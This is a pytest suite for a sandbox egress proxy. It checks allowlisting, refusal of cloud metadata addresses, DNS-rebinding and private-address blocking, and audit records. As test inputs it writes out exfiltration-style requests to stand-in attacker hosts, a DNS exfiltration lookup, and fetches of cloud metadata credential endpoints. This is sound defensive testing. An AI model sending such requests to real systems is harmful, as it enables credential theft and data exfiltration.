"""The egress proxy: allowlisted hosts reachable from the sandbox via its relay, all else not."""

from __future__ import annotations

import asyncio
import ipaddress
import shlex
import tempfile
import threading
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import docker
import docker.errors
import pytest
import pytest_asyncio
from conftest import Sandbox, new_instance_id, start_sandbox

from openfoal_kernel.protocol.errors import ErrorCode, OpenFoalError
from openfoal_kernel.sandbox.client.executor import DockerExecutor
from openfoal_kernel.sandbox.host.egress import EgressProxy
from openfoal_kernel.sandbox.host.manager import DEFAULT_IMAGE
from openfoal_kernel.sandbox.host.spec import labels, relay_kwargs
from openfoal_kernel.tools.netguard import IPAddress

pytestmark = pytest.mark.docker

KEY = "egress-test"

#: Fetch a URL through the proxy variables of the sandbox; print "STATUS BODY" or "ERR ...".
FETCH = """
import sys, urllib.request, urllib.error
try:
    r = urllib.request.urlopen(sys.argv[1], timeout=15)
    print(r.status, r.read().decode())
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode())
except Exception as e:
    print("ERR", repr(e))
"""

#: Open a CONNECT tunnel through the relay, then speak HTTP inside it.
TUNNEL = """
import sys, http.client
c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=15)
c.set_tunnel(sys.argv[1], int(sys.argv[2]))
try:
    c.request("GET", "/hello")
    r = c.getresponse()
    print(r.status, r.read().decode())
except OSError as e:
    print("ERR", repr(e))
"""


class _Hello(BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        body = f"hello from the host, path={self.path}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture(scope="module")
def http_port() -> Iterator[int]:
    """A plain HTTP server on the host's loopback; its port."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


@dataclass
class EgressBox:
    """A sandbox with its relay, wired as the manager wires them."""

    sandbox: Sandbox
    socket: Path
    relay_id: str


@pytest.fixture(scope="module")
def egress_box(
    docker_client: docker.DockerClient, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[EgressBox]:
    """A sandbox and an egress relay in its network namespace (the proxy is per test)."""
    base = tmp_path_factory.mktemp("egress")
    ws = base / "ws"
    ws.mkdir()
    sandbox, mounts = start_sandbox(docker_client, ws.resolve(), base / "state")
    # A short folder: a unix socket path must fit in 108 bytes.
    folder = Path(tempfile.mkdtemp(prefix="of-egress-"))
    relay = docker_client.containers.run(
        **relay_kwargs(
            image=DEFAULT_IMAGE,
            name=f"{sandbox.handle.name}-egress",
            sandbox_id=sandbox.container_id,
            socket_dir=str(folder),
            container_labels=labels(
                instance=new_instance_id(),
                host="test",
                owner="tester",
                session="s_test",
                pool=False,
                role="egress-relay",
            ),
        )
    )
    try:
        deadline = time.monotonic() + 20
        while b"relay ready" not in relay.logs():
            assert time.monotonic() < deadline, relay.logs()
            time.sleep(0.05)
        sandbox.handle = sandbox.handle.model_copy(update={"relay_id": relay.id})
        yield EgressBox(sandbox, folder / "proxy.sock", relay.id)
    finally:
        for cid in (relay.id, sandbox.container_id):
            try:
                docker_client.api.remove_container(cid, force=True)
            except docker.errors.NotFound:
                pass
        mounts.release()
        (folder / "proxy.sock").unlink(missing_ok=True)
        folder.rmdir()


@dataclass
class SpyResolver:
    """Stands in for DNS: answers from a table and records every lookup."""

    table: dict[str, list[str]] = field(default_factory=dict)
    lookups: list[tuple[str, int]] = field(default_factory=list)

    async def __call__(self, host: str, port: int) -> list[IPAddress]:
        self.lookups.append((host, port))
        if host not in self.table:
            raise OpenFoalError(ErrorCode.TOOL_EXEC_FAILED, f"cannot resolve {host!r}")
        return [ipaddress.ip_address(a) for a in self.table[host]]


@dataclass
class Egress:
    """The proxy of one test, its resolver spy, the reports it made, and the sandbox."""

    proxy: EgressProxy
    resolver: SpyResolver
    records: list[dict[str, Any]]
    executor: DockerExecutor

    def allow(self, *hosts: str) -> None:
        self.proxy.set_allow(KEY, list(hosts))

    async def fetch(self, url: str) -> str:
        """Fetch ``url`` from inside the sandbox; "STATUS BODY" or "ERR ..."."""
        res = await self.executor.run_command(
            f"python3 -c {shlex.quote(FETCH)} {shlex.quote(url)}",
            timeout_s=30,
            max_output_bytes=65536,
        )
        return res.stdout.strip()


@pytest_asyncio.fixture
async def egress(egress_box: EgressBox) -> AsyncIterator[Egress]:
    """A proxy listening on the relay's socket with an empty allowlist, and an executor."""
    records: list[dict[str, Any]] = []
    resolver = SpyResolver()
    proxy = EgressProxy(on_egress=records.append, resolver=resolver, connect_timeout_s=5)
    await proxy.open(KEY, egress_box.socket, allow=[], session_id="s_test", owner="tester")
    ex = DockerExecutor(egress_box.sandbox.handle)
    yield Egress(proxy, resolver, records, ex)
    await ex.aclose()
    await proxy.aclose()


@pytest.mark.asyncio
async def test_allowlisted_host_is_reachable_through_the_relay(
    egress: Egress, http_port: int
) -> None:
    # The operator opened this loopback address by its IP literal.
    egress.allow(f"127.0.0.1:{http_port}")
    out = await egress.fetch(f"http://127.0.0.1:{http_port}/hello?x=1")
    assert out == "200 hello from the host, path=/hello?x=1"
    res = await egress.executor.run_command(
        f"python3 -c {shlex.quote(TUNNEL)} 127.0.0.1 {http_port}",
        timeout_s=30,
        max_output_bytes=65536,
    )
    assert res.stdout.strip() == "200 hello from the host, path=/hello"
    seen = [(r["method"], r["host"], r["port"], r["allowed"], r["reason"]) for r in egress.records]
    assert seen == [
        ("GET", "127.0.0.1", http_port, True, None),
        ("CONNECT", "127.0.0.1", http_port, True, None),
    ]
    assert all(r["sessionId"] == "s_test" and r["owner"] == "tester" for r in egress.records)
    assert egress.resolver.lookups == []  # an IP literal needs no lookup
    # Without the proxy, the same address is the sandbox's own loopback: nothing there.
    direct = await egress.executor.run_command(
        f"env -u http_proxy -u HTTP_PROXY python3 -c {shlex.quote(FETCH)} "
        f"http://127.0.0.1:{http_port}/hello",
        timeout_s=30,
        max_output_bytes=65536,
    )
    assert direct.stdout.startswith("ERR"), direct


@pytest.mark.asyncio
async def test_hosts_off_the_allowlist_are_refused_without_a_lookup(
    egress: Egress, http_port: int
) -> None:
    egress.allow(f"127.0.0.1:{http_port}", "*.allowed.test")
    secret = f"exfil-{uuid.uuid4().hex}.attacker.test"
    for url in (f"http://127.0.0.1:{http_port + 1}/", f"http://{secret}/", "http://allowed.test/"):
        out = await egress.fetch(url)
        assert out.startswith("403 egress to ") and "not on the policy's network allowlist" in out
    assert egress.resolver.lookups == []  # the secret in the name never reached a resolver
    assert [(r["host"], r["allowed"]) for r in egress.records] == [
        ("127.0.0.1", False),
        (secret, False),
        ("allowed.test", False),
    ]
    assert {r["reason"] for r in egress.records} == {"not on the policy's network allowlist"}


@pytest.mark.asyncio
async def test_metadata_is_refused_even_when_allowlisted(egress: Egress) -> None:
    egress.allow("169.254.169.254", "169.254.170.2", "metadata.google.internal", "2852039166")
    for url, reason in (
        ("http://169.254.169.254/latest/meta-data/", "cloud metadata address"),
        ("http://169.254.170.2/v2/credentials", "cloud metadata address"),
        ("http://2852039166/latest/", "cloud metadata address"),  # 169.254.169.254 in decimal
        ("http://metadata.google.internal/computeMetadata/v1/", "cloud metadata host"),
    ):
        out = await egress.fetch(url)
        assert out.startswith("403") and reason in out, (url, out)
    assert [r["allowed"] for r in egress.records] == [False] * 4
    assert egress.resolver.lookups == []


@pytest.mark.asyncio
async def test_names_resolving_to_inside_addresses_are_refused(egress: Egress) -> None:
    egress.allow("internal.corp.test", "rebind.test", "gone.test")
    egress.resolver.table.update(
        {"internal.corp.test": ["10.0.0.5"], "rebind.test": ["93.184.216.34", "127.0.0.1"]}
    )
    assert "resolves to 10.0.0.5, private address" in await egress.fetch(
        "http://internal.corp.test/"
    )
    assert "resolves to 127.0.0.1, loopback address" in await egress.fetch("http://rebind.test/")
    assert "cannot resolve" in await egress.fetch("http://gone.test/")
    assert egress.resolver.lookups == [
        ("internal.corp.test", 80),
        ("rebind.test", 80),
        ("gone.test", 80),
    ]
    assert [(r["host"], r["allowed"]) for r in egress.records] == [
        ("internal.corp.test", False),
        ("rebind.test", False),
        ("gone.test", False),
    ]
    assert egress.records[0]["address"] == "10.0.0.5"


@pytest.mark.asyncio
async def test_dns_cannot_leave_the_sandbox(egress: Egress) -> None:
    ex = egress.executor
    name = f"exfil-{uuid.uuid4().hex[:12]}.attacker.test"
    lookup = await ex.run_command(f"getent hosts {name}", timeout_s=15, max_output_bytes=4096)
    assert lookup.exit_code != 0 and lookup.stdout == ""
    # The namespace has loopback only, no UDP socket anywhere, and one TCP listener: the
    # relay on 127.0.0.1:3128 (0100007F:0C38), which speaks only to the proxy.
    net = await ex.run_command(
        "ls /sys/class/net; echo --; tail -n +2 /proc/net/udp /proc/net/udp6; echo --; "
        "awk 'NR > 1 && $4 == \"0A\" {print $2}' /proc/net/tcp /proc/net/tcp6",
        timeout_s=15,
        max_output_bytes=65536,
    )
    ifaces, udp, listeners = (part.split() for part in net.stdout.split("--"))
    assert ifaces == ["lo"]
    assert [w for w in udp if not w.startswith(("==>", "/proc", "<=="))] == []
    assert listeners == ["0100007F:0C38"]
    assert egress.resolver.lookups == [] and egress.records == []


# -- decisions, without Docker ---------------------------------------------------------------


@pytest.mark.asyncio
async def test_decide_unit() -> None:
    spy = SpyResolver({"api.example.com": ["93.184.216.34"], "mixed.test": ["1.1.1.1", "fe80::1"]})
    proxy = EgressProxy(resolver=spy)
    allow = [
        "api.example.com",
        "*.example.org:443",
        "mixed.test",
        "::ffff:169.254.169.254",
        "10.0.0.5:8080",
    ]
    ok = await proxy.decide("API.Example.COM.", 443, allow)
    assert (ok.allowed, ok.host, str(ok.address)) == (True, "api.example.com", "93.184.216.34")
    literal = await proxy.decide("10.0.0.5", 8080, allow)
    assert literal.allowed and str(literal.address) == "10.0.0.5"
    cases = {
        ("10.0.0.5", 8081): "not on the policy's network allowlist",
        ("a.example.org", 80): "not on the policy's network allowlist",
        ("example.org", 443): "not on the policy's network allowlist",
        ("::ffff:169.254.169.254", 80): "cloud metadata address",
        ("mixed.test", 80): "resolves to fe80::1, link-local address",
        ("bad host!", 80): "invalid host name",
        ("api.example.com", 0): "invalid port",
        ("metadata", 80): "cloud metadata host",
    }
    for (host, port), reason in cases.items():
        d = await proxy.decide(host, port, allow)
        assert not d.allowed and d.reason is not None and reason in d.reason, (host, d)
    assert spy.lookups == [("api.example.com", 443), ("mixed.test", 80)]


@pytest.mark.asyncio
async def test_every_attempt_is_reported_even_if_the_callback_fails(tmp_path: Path) -> None:
    seen: list[dict[str, Any]] = []

    async def on_egress(record: dict[str, Any]) -> None:
        seen.append(record)
        raise RuntimeError("audit store down")  # must not break the proxy

    proxy = EgressProxy(on_egress=on_egress, resolver=SpyResolver())
    sock = Path(tempfile.mkdtemp(prefix="of-eg-")) / "p.sock"
    await proxy.open("k", sock, allow=[], session_id="s1", owner="ann")
    try:
        for request in (
            b"CONNECT evil.test:443 HTTP/1.1\r\n\r\n",
            b"GET /x HTTP/1.1\r\n\r\n",
            b"GET http://evil.test:8080/x HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        ):
            reader, writer = await asyncio.open_unix_connection(str(sock))
            writer.write(request)
            await writer.drain()
            head = await asyncio.wait_for(reader.read(4096), 5)
            writer.close()
            assert head.startswith((b"HTTP/1.1 403", b"HTTP/1.1 400")), head
    finally:
        await proxy.aclose()
    assert not sock.exists()
    sock.parent.rmdir()
    assert [(r["method"], r["host"], r["port"], r["allowed"]) for r in seen] == [
        ("CONNECT", "evil.test", 443, False),
        ("GET", "evil.test", 8080, False),
    ]
    assert all(r["event"] == "sandbox.egress" and r["owner"] == "ann" for r in seen)
